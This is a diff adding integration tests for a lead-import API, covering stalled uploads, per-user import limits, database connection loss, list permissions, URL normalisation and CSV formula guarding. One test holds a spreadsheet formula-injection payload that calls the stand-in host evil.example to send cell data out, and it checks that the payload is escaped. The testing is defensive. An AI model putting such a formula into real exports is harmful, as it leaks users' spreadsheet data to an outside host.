@@ -1,4 +1,5 @@
 import { test } from '@japa/runner'
+import net from 'node:net'
 import { randomUUID } from 'node:crypto'
 import { parse } from 'csv-parse/sync'
 import vine from '@vinejs/vine'
@@ -468,6 +469,36 @@ test.group('Leads import: API', (group) => {
       imported: 500,
       rejected: 1,
     })
+
+    // an imported lead's replay timeline shows the import: the event for a viewer, the audit row too for an admin
+    const lead = await db.from('leads').where('website', 'like', `%bulk-7-${tag}.example%`).first()
+    const timeline = async (token: string | null) =>
+      (await call(token, 'GET', `/api/replay/timeline?lead_id=${lead.id}`)).body
+    const seen = await timeline(actors.tokens.viewer)
+    assert.containSubset(seen, [
+      { kind: 'event', event_type: 'lead.imported', payload: { import_id: done.body.id } },
+    ])
+    assert.notInclude(
+      seen.map((item: any) => item.kind),
+      'audit'
+    )
+    assert.containSubset(await timeline(actors.tokens.admin), [
+      { kind: 'audit', action: 'lead.imported', resource_id: done.body.id },
+    ])
+    // a lead created on its own is not part of it
+    const alone = await call(actors.tokens.admin, 'POST', '/api/leads', {
+      business_name: `Alone ${tag}`,
+      niche: 'Roofers',
+      region: 'Boise, ID',
+      website: `alone-${tag}.example`,
+    })
+    const its = (
+      await call(actors.tokens.admin, 'GET', `/api/replay/timeline?lead_id=${alone.body.id}`)
+    ).body
+    assert.notInclude(
+      its.map((item: any) => item.event_type ?? item.action),
+      'lead.imported'
+    )
   })
 
   test('roles: admin, operator, closer and agents of a type that writes leads; a paused agent 423', async ({
@@ -895,5 +926,224 @@ test.group('Leads import: API', (group) => {
         ['4', 'suppressed', `the domain blocked-${tag}.example is on the do-not-contact list`],
       ]
     )
+  })
+
+  /* A raw upload that announces a body it never finishes: the header row, then nothing. */
+  function stalledUpload(token: string, id: string) {
+    const socket = net.connect(Number(process.env.PORT), process.env.HOST!)
+    let answer = ''
+    socket.on('data', (chunk) => (answer += chunk.toString()))
+    socket.on('error', () => {})
+    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
+    const header = 'business_name,niche,region,website\r\n'
+    socket.write(
+      `POST /api/leads/import?id=${id} HTTP/1.1\r\nHost: ${process.env.HOST}\r\n` +
+        `Authorization: Bearer ${token}\r\nContent-Type: text/csv\r\n` +
+        `Content-Length: 100000\r\n\r\n${header}`
+    )
+    return { socket, closed, answer: () => answer }
+  }
+
+  async function recordOf(id: string, status?: string) {
+    for (const deadline = Date.now() + 15_000; Date.now() < deadline;) {
+      const record = await db.from('lead_imports').where('id', id).first()
+      if (record && (!status || record.status === status)) return record
+      await new Promise((resolve) => setTimeout(resolve, 100))
+    }
+    return null
+  }
+
+  test('a stalled upload is given up: 408, the slot freed, nothing imported', async ({
+    assert,
+    cleanup,
+  }) => {
+    const previous = process.env.LEAD_IMPORT_IDLE_SECONDS
+    process.env.LEAD_IMPORT_IDLE_SECONDS = '1'
+    cleanup(() => {
+      if (previous === undefined) delete process.env.LEAD_IMPORT_IDLE_SECONDS
+      else process.env.LEAD_IMPORT_IDLE_SECONDS = previous
+    })
+    const before = await footprint()
+    const id = randomUUID()
+    const upload408 = stalledUpload(actors.tokens.admin!, id)
+    await upload408.closed
+    assert.match(upload408.answer(), /^HTTP\/1\.1 408/)
+    assert.include(upload408.answer(), 'E_UPLOAD_STALLED')
+    const record = await recordOf(id, 'failed')
+    assert.match(record?.error ?? '', /The upload stalled/)
+    assert.deepEqual(await footprint(), before)
+    // the same person imports again at once
+    const tag = randomUUID().slice(0, 8)
+    const next = await upload(
+      actors.tokens.admin,
+      `business_name,niche,region,website\r\nAfter Stall ${tag},HVAC,Reno,after-${tag}.example\r\n`
+    )
+    assert.equal(next.status, 201, JSON.stringify(next.body))
+  }).timeout(30_000)
+
+  test('one import at a time per person: a second is refused with 429, others may import', async ({
+    assert,
+  }) => {
+    const id = randomUUID()
+    const held = stalledUpload(actors.tokens.admin!, id)
+    try {
+      assert.isOk(await recordOf(id), 'the first import started')
+      const tag = randomUUID().slice(0, 8)
+      const file = (who: string) =>
+        `business_name,niche,region,website\r\n${who} ${tag},HVAC,Reno,${who}-${tag}.example\r\n`
+      const second = await upload(actors.tokens.admin, file('second'))
+      assert.equal(second.status, 429)
+      assert.equal(second.body.errors[0].code, 'E_TOO_MANY_IMPORTS')
+      assert.include(second.body.errors[0].message, 'You have an import running')
+      const other = await upload(actors.tokens.operator, file('operator'))
+      assert.equal(other.status, 201, JSON.stringify(other.body))
+    } finally {
+      held.socket.destroy()
+    }
+    await recordOf(id, 'failed')
+    const again = await upload(
+      actors.tokens.admin,
+      `business_name,niche,region,website\r\nAgain ${id.slice(0, 8)},HVAC,Reno,again-${id.slice(0, 8)}.example\r\n`
+    )
+    assert.equal(again.status, 201, JSON.stringify(again.body))
+  }).timeout(30_000)
+
+  test('past imports: one’s own, newest first; admins see everyone’s; viewers none', async ({
+    assert,
+  }) => {
+    const tag = randomUUID().slice(0, 8)
+    const file = (who: string) =>
+      `business_name,niche,region,website\r\n${who} ${tag},HVAC,Reno,${who}-${tag}.example\r\nBad ${tag},HVAC,Reno,not a site\r\n`
+    const mine = await upload(actors.tokens.closer, file('closer'), {
+      fileName: `closer-${tag}.csv`,
+    })
+    assert.equal(mine.status, 201, JSON.stringify(mine.body))
+    const theirs = await upload(actors.tokens.operator, file('operator'), {
+      fileName: `operator-${tag}.csv`,
+    })
+    assert.equal(theirs.status, 201)
+
+    const closerList = await call(actors.tokens.closer, 'GET', '/api/leads/imports?_end=100')
+    assert.equal(closerList.status, 200)
+    assert.isAtLeast(Number(closerList.headers.get('x-total-count')), 1)
+    assert.equal(closerList.body[0].id, mine.body.id, 'newest first')
+    assert.containSubset(closerList.body[0], {
+      file_name: `closer-${tag}.csv`,
+      status: 'done',
+      imported: 1,
+      rejected: 1,
+      rejected_csv: `/api/leads/imports/${mine.body.id}/rejected.csv`,
+    })
+    assert.isTrue(
+      closerList.body.every((record: any) => record.created_by.id === actors.users.closer.id),
+      'only the closer’s own'
+    )
+
+    const adminList = await call(actors.tokens.admin, 'GET', `/api/leads/imports?q=${tag}`)
+    assert.sameMembers(
+      adminList.body.map((record: any) => record.id),
+      [mine.body.id, theirs.body.id]
+    )
+    const done = await call(actors.tokens.admin, 'GET', `/api/leads/imports?q=${tag}&status=done`)
+    assert.lengthOf(done.body, 2)
+
+    assert.equal((await call(actors.tokens.viewer, 'GET', '/api/leads/imports')).status, 403)
+    assert.equal((await call(null, 'GET', '/api/leads/imports')).status, 401)
+    const bad = await call(actors.tokens.admin, 'GET', '/api/leads/imports?status=sideways')
+    assert.equal(bad.status, 422)
+    assert.isString(bad.body.errors[0].code)
+  })
+
+  test('PostgreSQL drops the import’s connection mid-file: the import fails, nothing is written, the server stays up', async ({
+    assert,
+  }) => {
+    const before = await footprint()
+    const tag = randomUUID().slice(0, 8)
+    const id = randomUUID()
+    const upload = stalledUpload(actors.tokens.admin!, id)
+    let row = 0
+    const trickle = setInterval(() => {
+      row++
+      upload.socket.write(`Dropped ${row} ${tag},HVAC,Reno,dropped-${row}-${tag}.example\r\n`)
+    }, 50)
+    try {
+      let pid: number | null = null
+      for (const deadline = Date.now() + 10_000; Date.now() < deadline && pid === null;) {
+        const { rows } = await db.rawQuery(
+          `SELECT pid FROM pg_stat_activity
+           WHERE datname = current_database() AND query LIKE 'COPY lead_import_raw%'`
+        )
+        pid = rows[0]?.pid ?? null
+        if (pid === null) await new Promise((resolve) => setTimeout(resolve, 50))
+      }
+      assert.isNotNull(pid, 'the import’s COPY was seen running')
+      await db.rawQuery('SELECT pg_terminate_backend(?)', [pid])
+      const record = await recordOf(id, 'failed')
+      assert.equal(record?.status, 'failed')
+    } finally {
+      clearInterval(trickle)
+      upload.socket.destroy()
+    }
+    // still up, and nothing of it written
+    assert.equal((await call(actors.tokens.admin, 'GET', '/api/leads?_end=1')).status, 200)
+    assert.deepEqual(await footprint(), before)
+  }).timeout(30_000)
+
+  test('a header that a spreadsheet would run as a formula is guarded in the rejected-rows file', async ({
+    assert,
+  }) => {
+    const tag = randomUUID().slice(0, 8)
+    const formula = '=HYPERLINK("http://evil.example/?"&A1;"x")'
+    const file = csv([
+      ['business_name', 'niche', 'region', 'website', formula],
+      [`Formula ${tag}`, 'HVAC', 'Reno', 'not a website', 'x'],
+    ])
+    const done = await upload(actors.tokens.closer, file, {
+      mapping: {
+        business_name: 'business_name',
+        niche: 'niche',
+        region: 'region',
+        website: 'website',
+        [formula]: null,
+      },
+    })
+    assert.equal(done.status, 201, JSON.stringify(done.body))
+    assert.equal(done.body.rejected, 1)
+    const { text, records } = await rejectedCsv(actors.tokens.admin!, done.body.id)
+    assert.equal(records[0][7], `'${formula}`)
+    assert.notInclude(text.split('\n')[0], ',"=HYPERLINK')
+    // the guarded name reads back as the file's own
+    const preview = await fetch(`${BASE()}/api/leads/import/preview`, {
+      method: 'POST',
+      headers: { 'authorization': `Bearer ${actors.tokens.admin}`, 'content-type': 'text/csv' },
+      body: text,
+    })
+    assert.include(((await preview.json()) as { headers: string[] }).headers, formula)
+  })
+
+  test('a website is stored as the API stores it: its host in lower case, every letter', async ({
+    assert,
+  }) => {
+    const tag = randomUUID().slice(0, 8)
+    const website = `https://WWW.MÜNCHEN-${tag}.DE/Über-Uns`
+    const done = await upload(
+      actors.tokens.admin,
+      csv([
+        ['business_name', 'niche', 'region', 'website'],
+        [`Umlaut ${tag}`, 'HVAC', 'München', website],
+      ])
+    )
+    assert.equal(done.status, 201, JSON.stringify(done.body))
+    assert.equal(done.body.imported, 1)
+    const stored = await db.from('leads').where('business_name', `Umlaut ${tag}`).first()
+    assert.equal(stored.website, `https://www.münchen-${tag}.de/Über-Uns`)
+    // and the API finds it a duplicate of the same address written otherwise
+    const again = await call(actors.tokens.admin, 'POST', '/api/leads', {
+      business_name: `Again ${tag}`,
+      niche: 'HVAC',
+      region: 'München',
+      website: `www.München-${tag}.de/Über-Uns`,
+    })
+    assert.equal(again.status, 409, JSON.stringify(again.body))
   })
 })
